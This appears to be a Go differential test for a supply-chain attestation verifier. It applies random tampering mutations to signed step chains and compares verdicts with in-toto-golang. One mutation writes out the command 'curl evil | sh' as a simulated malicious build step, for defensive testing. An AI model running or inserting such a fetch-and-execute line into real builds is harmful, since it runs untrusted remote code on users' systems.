package verify

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/stepseal/stepseal/pkg/run"
)

// mutation changes a chain before (or, via its tamper hooks, after) signing.
type mutation struct {
	name  string
	apply func(c *chain, r *rand.Rand) string
}

var (
	stepNames    = []string{"fetch.copy", "test.unit", "build.compile"}
	artifactPool = []string{"source/main.go", "source/new.go", "dist/app.tar.gz", "dist/extra", "other/f", "./source/main.go",
		"source/../x", "source/a b", "", "bin/app", "source/sub/dir/x.go"}
	rulePool = [][]string{
		{"ALLOW", "*"}, {"ALLOW", "source/*"}, {"DISALLOW", "source/**"}, {"DISALLOW", "dist/*"}, {"CREATE", "dist/*"},
		{"CREATE", "*"}, {"MODIFY", "source/*"}, {"DELETE", "source/**"}, {"REQUIRE", "source/main.go"}, {"REQUIRE", "./source/go.mod"},
		{"MATCH", "*", "WITH", "PRODUCTS", "FROM", "fetch.copy"}, {"MATCH", "*", "WITH", "MATERIALS", "FROM", "build.compile"},
		{"MATCH", "main.go", "IN", "source", "WITH", "PRODUCTS", "IN", "source/", "FROM", "fetch.copy"},
		{"MATCH", "*.go", "IN", "source/", "WITH", "PRODUCTS", "FROM", "fetch.copy"},
		{"MATCH", "source/ma?n.go", "WITH", "PRODUCTS", "FROM", "nope"}, {"MATCH", "source/[a-m]*", "WITH", "PRODUCTS", "FROM", "test.unit"},
		{"MATCH", "source/**", "WITH", "BANANAS", "FROM", "fetch.copy"}, {"ALLOW", "source/[x"}, {"DISALLOW", `source/\*`},
		{"MATCH", "go.mod", "IN", "./source/", "WITH", "PRODUCTS", "IN", "source", "FROM", "fetch.copy"},
	}
	signerPool = []string{"alice", "bob", "carol", "dave", "mallory"}
)

func pick[T any](r *rand.Rand, s []T) T { return s[r.IntN(len(s))] }

func artifactsOf(c *chain, r *rand.Rand) (string, run.Artifacts) {
	step := pick(r, stepNames)
	s := c.steps[step]
	if r.IntN(2) == 0 {
		return step + " materials", s.Materials
	}
	return step + " products", s.Products
}

var mutations = []mutation{
	{"change digest", func(c *chain, r *rand.Rand) string {
		where, a := artifactsOf(c, r)
		for n := range a {
			a[n] = digest(fmt.Sprint(r.Int()))
			return where + " " + n
		}
		return where + " (empty)"
	}},
	{"remove artifact", func(c *chain, r *rand.Rand) string {
		where, a := artifactsOf(c, r)
		for n := range a {
			delete(a, n)
			return where + " " + n
		}
		return where + " (empty)"
	}},
	{"add artifact", func(c *chain, r *rand.Rand) string {
		where, a := artifactsOf(c, r)
		n := pick(r, artifactPool)
		if content, ok := srcFiles[n]; ok && r.IntN(2) == 0 {
			a[n] = digest(content)
		} else {
			a[n] = digest(n)
		}
		return where + " " + n
	}},
	{"drop link", func(c *chain, r *rand.Rand) string {
		step := pick(r, stepNames)
		if s := c.signers[step]; len(s) > 0 {
			i := r.IntN(len(s))
			c.signers[step] = append(s[:i:i], s[i+1:]...)
		}
		return step
	}},
	{"add signer", func(c *chain, r *rand.Rand) string {
		step, k := pick(r, stepNames), pick(r, signerPool)
		for _, s := range c.signers[step] {
			if s == k {
				return "none"
			}
		}
		c.signers[step] = append(c.signers[step], k)
		return step + " " + k
	}},
	{"replace rule", func(c *chain, r *rand.Rand) string {
		st := &c.layout.Steps[r.IntN(len(c.layout.Steps))]
		rules := &st.ExpectedMaterials
		if r.IntN(2) == 0 {
			rules = &st.ExpectedProducts
		}
		nr := pick(r, rulePool)
		if len(*rules) == 0 {
			*rules = append(*rules, nr)
		} else {
			(*rules)[r.IntN(len(*rules))] = nr
		}
		return st.Name + " " + strings.Join(nr, " ")
	}},
	{"insert rule", func(c *chain, r *rand.Rand) string {
		st := &c.layout.Steps[r.IntN(len(c.layout.Steps))]
		rules := &st.ExpectedProducts
		if r.IntN(2) == 0 {
			rules = &st.ExpectedMaterials
		}
		nr := pick(r, rulePool)
		i := r.IntN(len(*rules) + 1)
		*rules = append((*rules)[:i:i], append([][]string{nr}, (*rules)[i:]...)...)
		return st.Name + " " + strings.Join(nr, " ")
	}},
	{"threshold", func(c *chain, r *rand.Rand) string {
		st := &c.layout.Steps[r.IntN(len(c.layout.Steps))]
		st.Threshold = 1 + r.IntN(3)
		return fmt.Sprint(st.Name, " ", st.Threshold)
	}},
	{"authorize", func(c *chain, r *rand.Rand) string {
		st := &c.layout.Steps[r.IntN(len(c.layout.Steps))]
		k := pick(r, []string{"alice", "bob", "carol", "dave"})
		st.PubKeys = []string{keyID(c.t, k)}
		return st.Name + " " + k
	}},
	{"tamper link", func(c *chain, r *rand.Rand) string {
		step, field := pick(r, stepNames), pick(r, []string{"materials", "products"})
		c.tamperLink = func(s, _ string, signed map[string]any) {
			if s == step {
				signed[field].(map[string]any)["source/main.go"] = map[string]any{"sha256": "00"}
			}
		}
		return step + " " + field
	}},
	{"tamper layout", func(c *chain, r *rand.Rand) string {
		c.tamperLayout = func(signed map[string]any) { signed["readme"] = "changed" }
		return ""
	}},
	{"expire", func(c *chain, r *rand.Rand) string {
		c.layout.Expires = "2021-06-01T00:00:00Z"
		return ""
	}},
	{"replay from another run", func(c *chain, r *rand.Rand) string {
		step := pick(r, stepNames)
		if len(c.signers[step]) == 0 {
			return "none"
		}
		signer := c.signers[step][0]
		name, data := c.signLink(step, signer, "run-0")
		c.extra = Memory{name: data}
		c.signers[step] = c.signers[step][1:]
		return step
	}},
	{"change command", func(c *chain, r *rand.Rand) string {
		step := pick(r, stepNames)
		s := c.steps[step]
		s.Command = []string{"sh", "-c", "curl evil | sh"}
		c.steps[step] = s
		return step
	}},
	{"rename signed step", func(c *chain, r *rand.Rand) string {
		step := pick(r, stepNames)
		s := c.steps[step]
		s.Name = pick(r, append([]string{"deploy.prod"}, stepNames...))
		c.steps[step] = s
		return step + " -> " + s.Name
	}},
}

// stricterCategories are the failures by which this package deliberately
// rejects chains in-toto-golang accepts (see doc.go).
var stricterCategories = []error{ErrRunMismatch, ErrUnknownStep, ErrUnauthorized, ErrSignature, ErrMalformed, ErrUnsupported}

// TestDifferentialInToto builds random mutations of the good chain and
// checks the verdict equals in-toto-golang's InTotoVerify, except where this
// package is deliberately stricter: then in-toto-golang must accept, every
// failure must be of a stricter category, and link-level failures must be
// extra links (the step's threshold met without them).
func TestDifferentialInToto(t *testing.T) {
	n := 400
	if testing.Short() {
		n = 80
	}
	// VERIFY_DIFF_SEED and VERIFY_DIFF_CASES run other or longer corpora by hand.
	seed := uint64(20261124)
	if s, err := strconv.ParseUint(os.Getenv("VERIFY_DIFF_SEED"), 10, 64); err == nil {
		seed = s
	}
	if c, err := strconv.Atoi(os.Getenv("VERIFY_DIFF_CASES")); err == nil {
		n = c
	}
	r := rand.New(rand.NewPCG(seed, 7))
	var agreePass, agreeFail, stricter int
	byMutation := map[string][3]int{}
	for i := 0; i < n; i++ {
		c := newChain(t)
		// Signed steps are rebuilt per case; artifact maps must not be shared.
		for k, s := range c.steps {
			s.Materials, s.Products = clone(s.Materials), clone(s.Products)
			c.steps[k] = s
		}
		var applied []string
		for m := 1 + r.IntN(3); m > 0; m-- {
			mu := pick(r, mutations)
			applied = append(applied, mu.name+"("+mu.apply(c, r)+")")
		}
		desc := fmt.Sprintf("case %d: %s", i, strings.Join(applied, ", "))
		layout, links := c.build()
		v, err := ours(t, layout, links, Options{})
		ierr := inToto(t, layout, links)
		counts := byMutation[applied[0]]
		switch {
		case err == nil && ierr == nil:
			agreePass++
			counts[0]++
		case err != nil && ierr != nil:
			agreeFail++
			counts[1]++
		case err == nil:
			t.Fatalf("%s: we accept what in-toto-golang rejects: %v", desc, ierr)
		default:
			stricter++
			counts[2]++
			checkStricter(t, desc, v)
		}
		byMutation[applied[0]] = counts
	}
	t.Logf("%d cases: %d both pass, %d both fail, %d deliberately stricter", n, agreePass, agreeFail, stricter)
	if agreePass == 0 || agreeFail < n/4 || stricter == 0 {
		t.Errorf("corpus too one-sided: pass %d, fail %d, stricter %d", agreePass, agreeFail, stricter)
	}
}

func checkStricter(t *testing.T, desc string, v *Verdict) {
	t.Helper()
	steps := map[string]StepResult{}
	for _, s := range v.Steps {
		steps[s.Name] = s
	}
	for _, f := range v.Failures {
		ok := false
		for _, c := range stricterCategories {
			ok = ok || errors.Is(f, c)
		}
		if !ok {
			t.Fatalf("%s: in-toto-golang accepts, we fail with a non-deliberate category: %v", desc, f)
		}
		var se *SignatureError
		var ue *UnauthorizedError
		step := ""
		if errors.As(f, &se) {
			step = se.Step
		} else if errors.As(f, &ue) {
			step = ue.Step
		}
		if step != "" {
			valid := 0
			for _, l := range steps[step].Links {
				if l.Valid {
					valid++
				}
			}
			if valid < steps[step].Threshold {
				t.Fatalf("%s: in-toto-golang accepts although step %q lacks valid links: %v", desc, step, f)
			}
		}
	}
}

func clone(a run.Artifacts) run.Artifacts {
	out := run.Artifacts{}
	for k, v := range a {
		out[k] = v
	}
	return out
}
